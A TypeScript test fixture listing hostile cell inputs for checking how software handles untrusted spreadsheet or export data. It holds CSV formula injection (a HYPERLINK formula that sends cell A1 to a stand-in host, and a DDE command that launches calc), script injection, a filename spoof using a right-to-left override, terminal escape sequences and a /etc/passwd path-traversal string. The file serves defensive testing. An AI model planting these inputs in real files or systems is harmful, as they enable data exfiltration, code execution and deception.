/** What somebody hostile writes in a cell: what other programs compute, run, load, cut or read backwards. */
export const hostileTexts: readonly string[] = [
  '=HYPERLINK("https://example.invalid/?"&A1,"cliquez")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '<img src=x onerror="globalThis.trap=1">',
  'javascript:globalThis.trap=1',
  'https://example.invalid/image.png',
  'facture\u202egnp.exe',
  'un\u0000deux\u0007trois\u001b]0;x',
  'moitié \ud800 de caractère',
  ']]>&lt;&#0;_x0000_%s%n',
  '../../../etc/passwd',
]
